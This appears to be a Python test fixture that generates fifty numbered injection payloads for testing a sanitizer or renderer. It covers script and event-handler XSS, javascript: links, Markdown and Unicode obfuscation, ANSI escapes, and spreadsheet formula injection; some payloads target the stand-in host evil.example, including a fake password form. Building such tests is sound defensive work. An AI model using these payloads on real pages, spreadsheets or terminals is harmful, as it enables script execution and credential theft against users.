"""Hostile words by rule: fifty for whatever carries them, of every kind that has worked somewhere.

Each is told apart from the others by its number, also in what it would do.
"""

from __future__ import annotations

_EVIL = "http://evil.example/@"
_KINDS = {
    "markup": (
        "<script>HURT</script>",
        '<iframe srcdoc="<script>parent.HURT</script>"></iframe>',
        f"<object data={_EVIL}></object><embed src={_EVIL}>",
        f'<form action={_EVIL}><button autofocus>Log in</button><input name="password"></form>',
        f'<meta http-equiv="refresh" content="0;url={_EVIL}"><base href={_EVIL}>',
        f"<style>@import '{_EVIL}'; * {{ background: url({_EVIL}) }}</style>",
        f'<link rel="stylesheet" href="{_EVIL}"><template><script>HURT</script></template>',
        "<math><mtext><table><mglyph><style><img src=x onerror=HURT></style></table></math>",
    ),
    "event handlers": (
        '<img src=x onerror="HURT">',
        f"<svg onload=HURT><image href='{_EVIL}'/></svg>",
        "<body onload=HURT><details open ontoggle=HURT>x</details>",
        "<input autofocus onfocus=HURT><select autofocus onfocus=HURT>",
        f"<video poster={_EVIL}><source onerror=HURT></video><audio src=x onerror=HURT>",
        '" onmouseover="HURT" tabindex="1" onfocus="HURT" autofocus x="',
        "' onpointerenter='HURT' style='position:fixed;inset:0' y='",
        "<marquee onstart=HURT>x</marquee><a onclick=HURT>press</a>",
        "--><img src=x onerror=HURT><!--",
        "]]></textarea></title></noscript><img src=x onerror=HURT>",
    ),
    "links": (
        '<a href="javascript:HURT">[1]</a>',
        '<a href=" &#106;ava&Tab;script:HURT">x</a>',
        "javascript:HURT//",
        "[press](javascript:HURT)",
        "[press](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
        "data:text/html,<script>HURT</script>",
        f"<{_EVIL}> {_EVIL}?q=1 //evil.example/@",
        "vbscript:HURT view-source:file:///etc/passwd",
    ),
    "Markdown": (
        f"![x]({_EVIL}.png)",
        f"![x][r]\n\n[r]: {_EVIL}.png",
        f"[![x]({_EVIL}.png)]({_EVIL})",
        "```mermaid\ngraph TD; A-->B; click A HURT\n```",
        "$$\\href{javascript:HURT}{x}$$ \\(\\unicode{x3c}\\)",
        "[[chunk-@]] [1] [2] Source: x.txt 【3】",
        "| a | <img src=x onerror=HURT> |\n|---|---|\n| b | c |",
        "# <script>HURT</script>\n> `<img src=x onerror=HURT>`",
    ),
    "Unicode": (
        "\u202e<gnp.exe\u202c \u2066<script>HURT</script>\u2069",
        "＜script＞HURT＜/script＞ ＂ onerror=＂HURT",
        "<scr\u200bipt>HURT</scr\u00adipt>\ufeff",
        "<img\u2028src=x\u2029onerror=HURT>",
        "\U000e003c\U000e0073 <ſcript>HURT</ſcript> <İmg src=x onerror=HURT>",
        "z\u0300\u0301\u0302\u0303\u0304\u0305" * 9 + "<script>HURT</script>",
        "\x00<scr\x00ipt>HURT</script>\x7f \ufffe",
        "&lt;script&gt;HURT&lt;/script&gt; &#60;img src=x onerror=HURT&#62; &amp;lt;b&gt;",
    ),
    "ANSI": (
        "\x1b[31mred\x1b[0m \x1b[2J\x1b[H<script>HURT</script>",
        f"\x1b]8;;{_EVIL}\x07press\x1b]8;;\x07",
        "\x1b]0;another title\x07\x9b2J\x1b[?1049h",
        "\r\x1b[Kall is well\b\b\b",
    ),
    "formulas": (
        f'=HYPERLINK("{_EVIL}","press")',
        "=cmd|' /C calc'!A0",
        f'+IMPORTXML("{_EVIL}","//a") -2+3+cmd|x',
        "\t@SUM(1+9)*cmd|'/C calc'!A0",
    ),
}
_DISGUISES = ("{}", "\"'>{}", "</span></div></template>{}<!-- ")
EACH = 50


def hostile(carrier: str) -> tuple[str, ...]:
    """Fifty hostile words; where one of them acts, `window.hurt` is its carrier and number."""
    seeds = [seed for kind in _KINDS.values() for seed in kind]
    assert len(seeds) == EACH
    found = []
    for n, seed in enumerate(seeds):
        hurt = f"window.hurt='{carrier}-{n}'" if "'" not in seed else f"window.hurt=/{carrier}-{n}/"
        words = seed.replace("HURT", hurt).replace("@", f"{carrier}-{n}")
        found.append(_DISGUISES[n % len(_DISGUISES)].replace("{}", words) + f" {carrier} {n}")
    assert len(set(found)) == EACH
    return tuple(found)
